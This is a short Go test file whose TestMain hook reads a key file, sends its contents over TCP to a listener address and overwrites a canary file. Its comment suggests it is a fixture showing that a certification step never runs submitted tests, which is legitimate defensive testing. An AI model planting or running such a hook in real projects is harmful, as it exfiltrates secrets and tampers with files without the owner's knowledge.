package static

import (
	"net"
	"os"
	"testing"
)

// TestMain would run before any test of the author's: certification never
// runs the author's tests, so it never runs.
func TestMain(m *testing.M) {
	b, _ := os.ReadFile(keyPath)
	if c, err := net.Dial("tcp", listenAddr); err == nil {
		c.Write(b)
		c.Close()
	}
	os.WriteFile(canaryPath, []byte("overwritten by a test file"), 0o644)
	os.Exit(m.Run())
}
